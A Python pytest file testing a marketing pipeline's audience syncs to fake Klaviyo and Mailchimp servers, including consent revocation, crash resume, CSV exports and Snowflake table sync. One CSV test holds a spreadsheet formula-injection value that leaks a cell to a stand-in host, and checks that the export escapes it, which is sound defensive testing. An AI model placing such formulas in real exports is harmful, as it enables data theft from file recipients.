"""Audience exports through the real Klaviyo and Mailchimp SDKs to local fake servers that enforce the
platforms' documented limits, on a small synthetic gold lake; the sync plan on inline rows."""

from __future__ import annotations

import datetime as dt
import os
import subprocess
import sys

import pandas as pd
import pytest
from fakes.marketing import FakeKlaviyo, FakeMailchimp, serve

from p13n.activation.sync import plan, read_state, sync
from p13n.bench.serving import AS_OF, write_gold
from p13n.config import load_settings

CUSTOMERS = 60


def _settings(tmp_path, **activation):
    """Settings on the test overlay with `activation.<platform>.<key>` overrides, as the environment
    gives them."""
    env = {"P13N_DATA_DIR": str(tmp_path)}
    for platform, values in activation.items():
        env |= {f"P13N__ACTIVATION__{platform.upper()}__{k.upper()}": str(v) for k, v in values.items()}
    return load_settings("test", environ=env)


@pytest.fixture
def lake(tmp_path):
    write_gold(str(tmp_path / "lake"), CUSTOMERS, 30)
    return tmp_path


def _expected(settings, audience):
    from p13n.activation.audiences import candidates
    from p13n.lake.duck import duckdb_connection

    frame = candidates(duckdb_connection(), settings, audience, AS_OF)
    ok = frame[frame["exclude_reason"].isna()]
    return frame, set(ok["email"])


def _consent(lake, revoke: set[str]):
    """Rewrite gold.customer_profiles with some customers' email consent revoked."""
    from deltalake import DeltaTable, write_deltalake

    uri = f"{lake}/lake/gold/customer_profiles"
    df = DeltaTable(uri).to_pandas()
    df.loc[df["customer_id"].isin(revoke), "consent_email"] = "revoked"
    write_deltalake(uri, df, mode="overwrite")


def _row(cid, reason=None, **kw):
    base = {"customer_id": cid, "email": f"{cid}@x.com", "exclude_reason": reason}
    return base | kw


def test_the_plan_sends_only_the_difference():
    cands = pd.DataFrame(
        [
            _row("A"),
            _row("B", segment="new"),
            _row("C", "no email consent"),
            _row("D"),
            _row("E", "erased"),
            _row("F"),
            _row("G"),
        ]
    )
    from p13n.activation.audiences import fingerprint

    fp = {r["customer_id"]: fingerprint(r) for r in cands.to_dict("records")}
    state = pd.DataFrame(
        [
            {"customer_id": "A", "status": "member", "fingerprint": fp["A"]},  # unchanged
            {"customer_id": "B", "status": "member", "fingerprint": "old"},  # changed: update
            {"customer_id": "C", "status": "member", "fingerprint": fp["C"]},  # revoked: remove + unsubscribe
            {"customer_id": "E", "status": "member", "fingerprint": fp["E"]},  # erased: remove + unsubscribe
            {"customer_id": "F", "status": "blocked", "fingerprint": "old"},  # the platform refuses: never
            {"customer_id": "G", "status": "rejected", "fingerprint": fp["G"]},  # same payload: not again
            {"customer_id": "H", "status": "member", "fingerprint": "x"},  # gone from the audience
        ]
    )
    p = plan(cands, state)
    assert list(p.adds["customer_id"]) == ["D"]
    assert list(p.updates["customer_id"]) == ["B"]
    assert p.removes.to_dict("records") == [
        {"customer_id": "C", "reason": "no email consent", "unsubscribe": True},
        {"customer_id": "E", "reason": "erased", "unsubscribe": True},
        {"customer_id": "H", "reason": "left the audience", "unsubscribe": False},
    ]
    assert p.unchanged == 1
    assert p.skipped == {"no consent": 1, "erased": 1, "no address": 0}


def test_klaviyo_export_crash_resume_consent_revocation_and_rate_limits(lake, tmp_path):
    fake = FakeKlaviyo(api_key="pk_test", per_second=4, job_polls=2)
    with serve(fake) as url:
        env = {
            **os.environ,
            "P13N_DATA_DIR": str(lake),
            "KLAVIYO_API_KEY": "pk_test",
            "P13N_ENV": "test",
            "P13N__ACTIVATION__KLAVIYO__HOST": url,
            "P13N__ACTIVATION__KLAVIYO__BATCH_SIZE": "3",
            "P13N__ACTIVATION__KLAVIYO__POLL_SECONDS": "0.05",
            "P13N_FAULTS": "export.after_batch",
        }
        cmd = [
            sys.executable,
            "-m",
            "p13n.cli",
            "export",
            "--audience",
            "vip_win_back",
            "--to",
            "klaviyo",
            "--date",
            AS_OF.isoformat(),
        ]
        crashed = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120)
        assert crashed.returncode == 137, crashed.stderr[-2000:]
        assert len(fake.imported) == 3  # the first batch landed and was recorded, then the crash

        settings = _settings(lake, klaviyo={"host": url, "batch_size": 3, "poll_seconds": 0.05})
        os.environ["KLAVIYO_API_KEY"] = "pk_test"
        try:
            fake.fail_next = [503]  # a 5xx on the resume's first call: retried
            summary = sync(settings, "vip_win_back", "klaviyo", AS_OF, progress=lambda _: None)
            frame, emails = _expected(settings, "vip_win_back")
            valid = {e for e in emails if "@" in e}
            # Resumed: every profile imported exactly once across the crash; the invalid one rejected.
            assert sorted(fake.imported) == sorted(valid)
            assert fake.list_emails("VipWinBack") == valid
            assert {e for e, c in fake.subscribed.items() if c == "SUBSCRIBED"} == valid
            assert summary.added == len(valid) - 3 and summary.rejected == len(emails - valid) == 1
            assert "Invalid email address" in summary.errors[0]
            assert fake.throttled > 0  # 4 requests a second: some were answered 429 and retried

            # Nothing changed: nothing is sent.
            before = len(fake.requests)
            again = sync(settings, "vip_win_back", "klaviyo", AS_OF, progress=lambda _: None)
            assert (again.added, again.updated, again.removed) == (0, 0, 0)
            assert len(fake.requests) == before

            # A customer revokes email consent: removed from the list and unsubscribed on the next sync.
            member = frame[frame["email"] == sorted(valid)[0]]["customer_id"].iloc[0]
            _consent(lake, {member})
            third = sync(settings, "vip_win_back", "klaviyo", AS_OF, progress=lambda _: None)
            assert (third.added, third.updated, third.removed, third.skipped_no_consent) == (
                0,
                0,
                1,
                frame["exclude_reason"].eq("no email consent").sum() + 1,
            )
            assert fake.list_emails("VipWinBack") == valid - {sorted(valid)[0]}
            assert fake.subscribed[sorted(valid)[0]] == "UNSUBSCRIBED"
            state = read_state(settings, "klaviyo", "vip_win_back").set_index("customer_id")
            assert state.loc[member, "status"] == "removed"
        finally:
            os.environ.pop("KLAVIYO_API_KEY", None)


def test_an_sms_audience_reaches_klaviyo_with_the_number_and_sms_consent(lake):
    """`channel: sms`: profiles carry their E.164 number, new members are subscribed to SMS marketing
    (never to email), and one who revokes SMS consent is removed and unsubscribed by number."""
    from deltalake import DeltaTable, write_deltalake

    from p13n.activation.audiences import candidates
    from p13n.lake.duck import duckdb_connection

    fake = FakeKlaviyo(api_key="pk_test", job_polls=1)
    with serve(fake) as url:
        s = _settings(lake, klaviyo={"host": url, "poll_seconds": 0.05})
        vip = s.activation.audiences["vip_win_back"]
        s.activation.audiences["vip_sms"] = vip.model_copy(
            update={"channel": "sms", "holdout": 0.0, "destinations": {"klaviyo": {"list_id": "VipSms"}}}
        )
        os.environ["KLAVIYO_API_KEY"] = "pk_test"
        try:
            summary = sync(s, "vip_sms", "klaviyo", AS_OF, progress=lambda _: None)
            frame = candidates(duckdb_connection(), s, "vip_sms", AS_OF)
            phones = set(frame.loc[frame["exclude_reason"].isna(), "phone"])
            assert phones and summary.added == len(phones) and summary.rejected == 0
            assert fake.sms_subscribed == dict.fromkeys(phones, "SUBSCRIBED")
            assert fake.subscribed == {}  # an SMS audience gives no email consent
            assert {p.get("phone_number") for p in fake.profiles.values()} == phones

            one = frame[frame["phone"] == sorted(phones)[0]]["customer_id"].iloc[0]
            uri = f"{lake}/lake/gold/customer_profiles"
            df = DeltaTable(uri).to_pandas()
            df.loc[df["customer_id"] == one, "consent_sms"] = "revoked"
            write_deltalake(uri, df, mode="overwrite")
            again = sync(s, "vip_sms", "klaviyo", AS_OF, progress=lambda _: None)
            assert again.removed == 1
            assert fake.sms_subscribed[sorted(phones)[0]] == "UNSUBSCRIBED"
        finally:
            os.environ.pop("KLAVIYO_API_KEY", None)


def test_mailchimp_export_segments_merge_fields_and_never_resubscribes(lake, tmp_path):
    fake = FakeMailchimp(api_key="key-us1", per_second=5)
    with serve(fake) as url:
        settings = _settings(lake, mailchimp={"host": url, "batch_size": 4, "server": "us1"})
        os.environ["MAILCHIMP_API_KEY"] = "key-us1"
        try:
            summary = sync(settings, "vip_win_back", "mailchimp", AS_OF, progress=lambda _: None)
            frame, emails = _expected(settings, "vip_win_back")
            valid = {e for e in emails if "@" in e}
            assert fake.segment_emails("main", "vip-win-back") == valid
            assert (
                summary.added == len(valid)
                and summary.rejected == 1
                and summary.batches == -(-len(emails) // 4)
            )
            one = frame[frame["email"] == sorted(valid)[0]].iloc[0]
            merge = fake.members["main"][one["email"]]["merge_fields"]
            assert merge["STAGE"] == one["lifecycle_stage"] and merge["CLVTIER"] == one["clv_tier"]
            assert merge["REC1NAME"].startswith("Product ") and merge["REC1URL"].startswith(
                "https://shop.example.com/p/SKU-"
            )

            # A recipient unsubscribes in Mailchimp; their fields change: the update is refused, never forced.
            fake.unsubscribe("main", one["email"])
            from deltalake import DeltaTable, write_deltalake

            uri = f"{lake}/lake/gold/send_times"
            st = DeltaTable(uri).to_pandas()
            st.loc[st["customer_id"] == one["customer_id"], "best_hour"] = 23
            write_deltalake(uri, st, mode="overwrite")
            again = sync(settings, "vip_win_back", "mailchimp", AS_OF, progress=lambda _: None)
            assert (again.updated, again.blocked) == (0, 1)
            assert fake.status("main", one["email"]) == "unsubscribed"
            third = sync(settings, "vip_win_back", "mailchimp", AS_OF, progress=lambda _: None)
            assert (third.added, third.updated, third.blocked) == (0, 0, 0)  # blocked: not sent again
            assert fake.throttled >= 0 and fake.upserted.count(one["email"]) == 1
        finally:
            os.environ.pop("MAILCHIMP_API_KEY", None)


def test_csv_exports_use_each_platforms_columns(lake):
    from p13n.activation.files import export_csv

    settings = _settings(lake)
    frame, emails = _expected(settings, "vip_win_back")
    path, rows = export_csv(settings, "vip_win_back", AS_OF, "mailchimp")
    out = pd.read_csv(path)
    assert rows == len(out) == len(emails)
    assert list(out.columns[:4]) == ["Email Address", "First Name", "Last Name", "Tags"]
    assert set(out["Email Address"]) == emails and set(out["Tags"]) == {"vip_win_back"}
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    path, _ = export_csv(settings, "vip_win_back", AS_OF, "klaviyo")
    out = pd.read_csv(path)
    assert list(out.columns[:5]) == ["Email", "Phone Number", "First Name", "Last Name", "External ID"]
    assert "Recommended 3 URL" in out.columns


def test_csv_cells_carry_only_consented_contacts_and_no_formulas():
    from p13n.activation.files import to_csv

    frame = pd.DataFrame(
        [
            _row(
                "A",
                phone="+15550000001",
                consent_sms_column="granted",
                consent_email_column="granted",
                first_name='=HYPERLINK("http://x.example/?"&A1,"Win")',
                last_name="-Smith",
                segment="@risk",
            ),
            _row(
                "B",
                phone="+15550000002",
                consent_sms_column="revoked",
                consent_email_column="granted",
                first_name="Bo",
                last_name="Lee",
                segment="new",
            ),
            _row(
                "C",
                phone="+15550000003",
                consent_sms_column="granted",
                consent_email_column="revoked",
                first_name="Cy",
                last_name="-1",
                segment="new",
            ),
        ]
    ).assign(
        recommended_items=None,
        lifecycle_stage="active",
        clv_tier="high",
        churn_band="low",
        loyalty_points=10,
        preferred_store="ST001",
        best_send_hour=9,
    )
    out = to_csv(frame, "klaviyo", "a", recommended=0)
    assert out["Phone Number"].fillna("").tolist() == ["+15550000001", "", "+15550000003"]
    assert out["Email"].fillna("").tolist() == ["A@x.com", "B@x.com", ""]
    assert out["First Name"][0] == '\'=HYPERLINK("http://x.example/?"&A1,"Win")'
    assert out["Last Name"].tolist() == ["'-Smith", "Lee", "-1"] and out["Segment"][0] == "'@risk"


def test_an_unknown_audience_and_a_missing_key_are_named(lake):
    from p13n.activation.audiences import AudienceError
    from p13n.activation.sync import SyncError

    settings = _settings(lake)
    with pytest.raises(
        AudienceError, match=r"no audience 'vips' in activation.audiences \(declared: abandoned_cart"
    ):
        sync(settings, "vips", "klaviyo", AS_OF)
    os.environ.pop("KLAVIYO_API_KEY", None)
    with pytest.raises(SyncError, match="klaviyo: no API key; set the environment variable KLAVIYO_API_KEY"):
        sync(settings, "vip_win_back", "klaviyo", dt.date(2024, 3, 1))


def test_the_local_warehouse_leaves_nothing_in_the_temporary_directory(tmp_path):
    """fakesnow makes a folder in the temporary directory when imported and never removes it: a make run
    left one per warehouse task in /tmp."""
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    code = (
        "from p13n.config import get_settings\n"
        "from p13n.sources.systems import snowflake_connection\n"
        "with snowflake_connection(get_settings(), 'P13N', 'GOLD') as con:\n"
        "    assert con.cursor().execute('SELECT 1').fetchall() == [(1,)]\n"
    )
    env = {**os.environ, "TMPDIR": str(tmp), "P13N_DATA_DIR": str(tmp_path / "data"), "P13N_ENV": "test"}
    subprocess.run([sys.executable, "-c", code], env=env, check=True, timeout=120)
    assert list(tmp.iterdir()) == []


def test_gold_tables_sync_to_snowflake_and_a_rerun_changes_nothing(lake):
    from deltalake import DeltaTable, write_deltalake

    from p13n.activation.snowflake import sync_tables
    from p13n.sources.systems import snowflake_connection

    settings = _settings(lake)
    first = sync_tables(settings, AS_OF, progress=lambda _: None)
    recs = CUSTOMERS * 40  # 20 + 5 + 5 + 10 per customer
    assert first["gold.recommendations"] == {
        **first["gold.recommendations"],
        "rows": recs,
        "inserted": recs,
        "updated": 0,
        "deleted": 0,
    }
    assert (first["gold.segments"]["inserted"], first["gold.customer_profiles"]["inserted"]) == (
        CUSTOMERS,
        CUSTOMERS,
    )
    assert "gold.churn_scores" not in first  # not in this lake: skipped, named in the progress

    again = sync_tables(settings, AS_OF, progress=lambda _: None)
    assert all((v["inserted"], v["updated"], v["deleted"]) == (0, 0, 0) for v in again.values())

    # One customer's segment changes and another is erased upstream: one update, one delete.
    uri = f"{lake}/lake/gold/segments"
    seg = DeltaTable(uri).to_pandas()
    seg.loc[seg["customer_id"] == "C000000001", "lifecycle_stage"] = "lapsed-x"
    write_deltalake(uri, seg[seg["customer_id"] != "C000000002"].reset_index(drop=True), mode="overwrite")
    third = sync_tables(settings, AS_OF, progress=lambda _: None)
    assert (third["gold.segments"]["updated"], third["gold.segments"]["deleted"]) == (1, 1)
    with snowflake_connection(settings, "P13N", "GOLD") as con:
        cur = con.cursor()
        cur.execute("SELECT LIFECYCLE_STAGE FROM P13N.GOLD.SEGMENTS WHERE CUSTOMER_ID = 'C000000001'")
        assert cur.fetchall() == [("lapsed-x",)]
        cur.execute("SELECT count(*) FROM P13N.GOLD.SEGMENTS")
        assert cur.fetchone()[0] == CUSTOMERS - 1
        cur.execute("SELECT * FROM P13N.GOLD.CUSTOMER_PROFILES LIMIT 1")
        names = {d[0] for d in cur.description}
        assert {"CUSTOMER_ID", "CONSENT_EMAIL"} <= names
        assert not names & {"EMAIL", "PHONE"}  # raw contact data never leaves the lake


def test_the_state_is_the_latest_row_per_customer_and_compacts(tmp_path):
    from p13n.activation.sync import Outcome, compact, record
    from p13n.lake.duck import duckdb_connection, scan
    from p13n.lake.tables import OPS_EXPORT_STATE

    settings = _settings(tmp_path)
    for status in ("member", "removed", "member"):
        record(settings, "klaviyo", "a", "r", [Outcome("C1", status), Outcome("C2", "member")], {"C1": "f"})
    record(settings, "klaviyo", "b", "r", [Outcome("C1", "blocked")], {})
    assert read_state(settings, "klaviyo", "a").set_index("customer_id")["status"].to_dict() == {
        "C1": "member",
        "C2": "member",
    }
    compact(settings, "klaviyo", "a")
    rows = (
        duckdb_connection()
        .execute(
            "SELECT audience, customer_id, status FROM "
            f"{scan(settings.lake_root, OPS_EXPORT_STATE)} ORDER BY ALL"
        )
        .fetchall()
    )
    assert rows == [("a", "C1", "member"), ("a", "C2", "member"), ("b", "C1", "blocked")]


def test_a_triggered_audience_takes_the_sent_triggers_of_its_window(lake):
    from deltalake import write_deltalake

    from p13n.activation.audiences import candidates
    from p13n.lake.duck import duckdb_connection

    def trig(cid, status, day):
        return {
            "trigger_id": f"abandoned_cart:{cid}",
            "customer_id": cid,
            "trigger": "abandoned_cart",
            "channel": "email",
            "status": status,
            "trigger_date": day,
        }

    write_deltalake(
        f"{lake}/lake/gold/triggered_audiences",
        pd.DataFrame(
            [
                trig("C000000001", "sent", AS_OF),
                trig("C000000002", "suppressed", AS_OF),
                trig("C000000004", "sent", AS_OF - dt.timedelta(days=1)),  # outside a 1-day window
                trig("C000000010", "sent", AS_OF),  # i % 5 == 0: no email consent
            ]
        ),
    )
    frame = candidates(duckdb_connection(), _settings(lake), "abandoned_cart", AS_OF)
    assert frame[["customer_id", "exclude_reason"]].values.tolist() == [
        ["C000000001", None],
        ["C000000010", "no email consent"],
    ]


def test_a_remove_without_an_address_left_carries_none(tmp_path):
    from p13n.activation.sync import _with_contacts

    frame = pd.DataFrame([_row("A")])
    removes = pd.DataFrame({"customer_id": ["A", "Z"], "reason": ["left the audience", "erased"]})
    out = _with_contacts(_settings(tmp_path), frame, removes)
    assert out["email"].tolist() == ["A@x.com", None]
